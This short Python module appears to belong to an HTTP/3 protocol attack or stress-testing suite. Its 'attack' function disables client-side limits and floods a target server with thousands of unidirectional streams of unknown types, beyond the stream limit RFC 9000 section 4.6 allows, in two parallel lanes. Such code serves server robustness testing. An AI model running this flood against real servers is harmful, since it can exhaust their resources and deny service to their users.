"""One-way streams of unknown types, more than the server allows (RFC 9000, 4.6)."""

import asyncio

from wire.http3 import http3, number


async def attack(target):
    async def lane(lane):
        async with http3(target, target.source(lane)) as it:
            if it:
                it.heed_no_limits()
                for n in range(10_000):
                    if not target.goes_on():
                        break
                    await it.send(it.stream(one_way=True), number(0x21 + 0x1f * n) + bytes(100))
                await asyncio.sleep(0.2)

    await target.lanes(2, lane)
